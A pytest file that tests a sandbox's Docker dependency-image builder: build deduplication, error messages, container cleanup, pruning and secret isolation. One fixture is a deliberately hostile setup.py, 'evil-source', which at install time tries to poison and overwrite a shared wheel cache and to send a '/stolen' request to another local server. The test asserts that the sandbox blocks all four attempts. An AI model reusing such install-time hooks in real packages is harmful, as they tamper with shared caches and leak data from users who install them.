"""Dependency images on a real engine. The base image is made first when it is not there (about a minute, once)."""

import contextlib
import io
import os
import subprocess
import sys
import tarfile
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from docker.errors import ImageNotFound

from sandbox.build import BuildContainer
from sandbox.build_network import BuildNetwork
from sandbox.docker import DockerEngine
from sandbox.errors import DependencyError, ImageUnavailable, PackageRefused
from sandbox.images import REPOSITORY, Images
from sandbox.locks import try_lock
from sandbox.manifest import Manifest
from sandbox.owners import OWNER, RUN, this_process
from sandbox.protocol import Command, Limits
from tests.support.index_server import IndexServer, Project
from tests.support.trees import RUN_ID, fastapi_image, images, network

pytestmark = pytest.mark.docker
ROOT = Path(__file__).parents[2]
SMALL = f"iniconfig!=0.0.{uuid.uuid4().int % 10**9}"
"""A requirement nobody had before, so that its image is not there yet."""


@pytest.fixture(scope="module")
def engine() -> Iterator[DockerEngine]:
    engine = DockerEngine()
    yield engine
    engine.close()


def test_two_who_want_the_same_build_it_once_and_find_it_at_once_later(engine: DockerEngine, tmp_path: Path) -> None:
    manifest = Manifest(requirements=(SMALL,))
    secret = BuildNetwork(ca_dir=network().ca_dir, proxies={"no": "canary-secret.invalid"})
    makers = [Images(engine.client, secret, base=images().base, cache=tmp_path) for _ in range(2)]
    found = []
    threads = [threading.Thread(target=lambda m=m: found.append(m.ensure(manifest))) for m in makers]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    tag = makers[0].tag_of(manifest)
    try:
        assert sorted(image.built for image in found) == [False, True]
        assert {image.tag for image in found} == {tag}
        begun = time.monotonic()
        assert not makers[0].ensure(manifest).built
        assert time.monotonic() - begun < 0.5
        listed = {info.tag: info for info in makers[0].list()}
        assert listed[tag].size > 0 and listed[tag].last_used == pytest.approx(time.time(), abs=120)
        seen = repr(engine.client.inspect_image(tag)) + repr(engine.client.history(tag))
        assert "canary-secret" not in seen
        with engine.open(tag, run_id=RUN_ID, limits=Limits()) as sandbox:
            program = (
                "import pytest, httpx, anyio, iniconfig, pytest.__main__ as m, os; print(os.path.exists(m.__cached__))"
            )
            ran = sandbox.run(Command(argv=("/opt/venv/bin/python", "-I", "-c", program), timeout_s=30))
            assert (ran.stdout, ran.exit_code) == (b"True\n", 0), ran.stderr
            env = sandbox.run(Command(argv=("env",), timeout_s=30)).stdout
            assert b"proxy" not in env.lower() and b"UV_" not in env
    finally:
        engine.client.remove_image(tag)
    assert tag not in {info.tag for info in makers[0].list()}


def test_what_cannot_be_installed_is_said_in_the_installers_words() -> None:
    with pytest.raises(DependencyError, match="iniconfig==99") as caught:
        images().ensure(Manifest(requirements=("iniconfig==99",)))
    assert "\x1b" not in str(caught.value) and len(str(caught.value)) < 4000
    with pytest.raises(DependencyError, match=r"needs Python >=3\.99"):
        images().ensure(Manifest(requirements=("iniconfig",), python=">=3.99"))


def build_containers(owner: str) -> list[dict[str, Any]]:
    """Of one process; the engine removes them a moment after they are killed."""
    deadline = time.monotonic() + 10
    while True:
        found = images().api.containers(all=True, filters={"label": f"{OWNER}={owner}"})
        left = [one for one in found if one["Labels"].get(RUN) == "build"]
        if not left or time.monotonic() > deadline:
            return left
        time.sleep(0.1)


def test_no_container_is_left_after_a_build() -> None:
    assert build_containers(str(this_process())) == []


BUILDER_PROGRAM = """
import sys
from sandbox.build import BuildContainer
from sandbox.destinations import Destinations
from sandbox.docker import DockerEngine
from sandbox.owners import this_process
from tests.support.trees import network
box = BuildContainer(DockerEngine().client, sys.argv[1], network=network())
box.connect(Destinations(frozenset()))
box.way_out()
print(this_process(), flush=True)
input()
"""


def test_a_builder_that_is_killed_leaves_nothing() -> None:
    command = [sys.executable, "-c", BUILDER_PROGRAM, images().base]
    with subprocess.Popen(command, cwd=ROOT, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as builder:
        assert builder.stdout is not None
        owner = builder.stdout.readline().strip()
        assert len(images().api.containers(filters={"label": f"{OWNER}={owner}"})) == 1
        builder.kill()
        builder.wait()
    assert build_containers(owner) == []


SOURCE = """
import os, pathlib, setuptools, urllib.request
tried = {}
for name, attempt in {
    "write": lambda: pathlib.Path("/cache/poison").write_text("x"),
    "loosen": lambda: os.chmod("/cache", 0o777),
    "replace": lambda: next(p for p in pathlib.Path("/cache").rglob("*.py")).write_text("x"),
    "elsewhere": lambda: urllib.request.urlopen("http://127.0.0.1:%d/stolen" % BYSTANDER, timeout=3),
}.items():
    try:
        attempt()
        tried[name] = "done"
    except Exception as error:
        tried[name] = type(error).__name__ + " " + str(getattr(error, "code", getattr(error, "errno", "")))
pathlib.Path("evil_source.py").write_text("tried = %r" % tried)
setuptools.setup(name="evil-source", version="1.0", py_modules=["evil_source"])
"""


def test_a_build_from_source_uses_the_wheels_of_others_and_cannot_touch_them(
    engine: DockerEngine, tmp_path: Path
) -> None:
    once = f"acme-{uuid.uuid4().hex[:10]}"
    with IndexServer() as index, IndexServer() as bystander:
        index.add(once)
        index.projects["evil-source"] = sdist("evil-source", SOURCE.replace("BYSTANDER", str(bystander.port)))
        mixed = BuildNetwork(
            ca_dir=network().ca_dir, pip_conf=network().pip_conf, extra_index_urls=(index.url,)
        )  # fmt: skip
        maker = Images(engine.client, mixed, base=images().base, cache=tmp_path)
        tags = [maker.ensure(Manifest(requirements=(once,))).tag]
        try:
            fetched = [asked for asked in index.asked if asked.startswith(f"GET /files/{once}/")]
            tags.append(maker.ensure(Manifest(requirements=(once, "evil-source"))).tag)
            assert [asked for asked in index.asked if asked.startswith(f"GET /files/{once}/")] == fetched != []
            program = "import evil_source; print(evil_source.tried)"
            with engine.open(tags[1], run_id=RUN_ID, limits=Limits()) as sandbox:
                ran = sandbox.run(Command(argv=("/opt/venv/bin/python", "-I", "-c", program), timeout_s=30))
        finally:
            for tag in tags:
                engine.client.remove_image(tag)
    tried = "{'write': 'OSError 30', 'loosen': 'OSError 30', 'replace': 'OSError 30', 'elsewhere': 'HTTPError 403'}"
    assert ran.stdout.decode().strip() == tried, ran.stderr
    assert bystander.asked == []


def sdist(name: str, setup: str) -> Project:
    """A project with a source distribution only."""
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w:gz") as tar:
        for path, text in {
            "setup.py": setup,
            "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        }.items():
            member = tarfile.TarInfo(f"{name}-1.0/{path}")
            member.size = len(text.encode())
            tar.addfile(member, io.BytesIO(text.encode()))
    return Project({f"{name}-1.0.tar.gz": content.getvalue()})


def test_what_is_refused_is_refused_before_anything_is_started(engine: DockerEngine, tmp_path: Path) -> None:
    with IndexServer() as index:
        local = BuildNetwork(index_url=index.url)
        maker = Images(engine.client, local, base=images().base, cache=tmp_path)
        with pytest.raises(PackageRefused, match="fastapi-magic does not exist"):
            maker.ensure(Manifest(requirements=("fastapi", "fastapi-magic")), known=Manifest(requirements=("fastapi",)))
    assert build_containers(str(this_process())) == []


class OnlyMine:
    """The engine's API, with one image in its lists: other images are other people's."""

    def __init__(self, api: Any, tags: set[str]) -> None:
        self._api, self._tags = api, tags

    def __getattr__(self, name: str) -> Any:
        return getattr(self._api, name)

    def images(self, name: str = "", filters: object = None) -> list[dict[str, Any]]:
        found = self._api.images(name=name or None, filters=filters)
        return [one for one in found if filters or self._tags & set(one["RepoTags"] or ())]


def test_an_image_in_use_is_not_pruned(engine: DockerEngine, tmp_path: Path) -> None:
    tag = f"{REPOSITORY}:test-{uuid.uuid4().hex[:12]}"
    with BuildContainer(engine.client, images().base, network=BuildNetwork(), cache="none") as box:
        box.put({"/large": bytes(200_000)}, owner=0, mode=0o644)
        box.commit(tag, {})
    pruning = Images(OnlyMine(engine.client, {tag}), network(), base=images().base, cache=tmp_path)
    try:
        [info] = pruning.list()
        assert 200_000 <= info.own < 300_000 < info.size, "what the base holds is not counted"
        another_process = try_lock(pruning._place(tag, "used"), shared=True)
        assert another_process is not None and pruning.prune(0) == []
        os.close(another_process)
        with engine.open(tag, run_id=RUN_ID, limits=Limits()):
            assert pruning.prune(0) == []
        assert pruning.prune(10**9) == [] and pruning.prune(0) == [tag]
        pruning._use(tag)
        assert not pruning._remove(tag), "this process uses it"
    finally:
        with contextlib.suppress(ImageNotFound):
            engine.client.remove_image(tag)


def test_a_base_that_is_gone_is_named(engine: DockerEngine, tmp_path: Path) -> None:
    gone = Images(engine.client, network(), base="greenloop/base:none", cache=tmp_path)
    with pytest.raises(ImageUnavailable, match=r"the base image .* is gone"):
        gone.ensure(Manifest())


def test_nothing_is_pruned_while_there_is_room() -> None:
    fastapi_image()
    assert images().prune(10**15) == []
    assert fastapi_image() in {info.tag for info in images().list()}
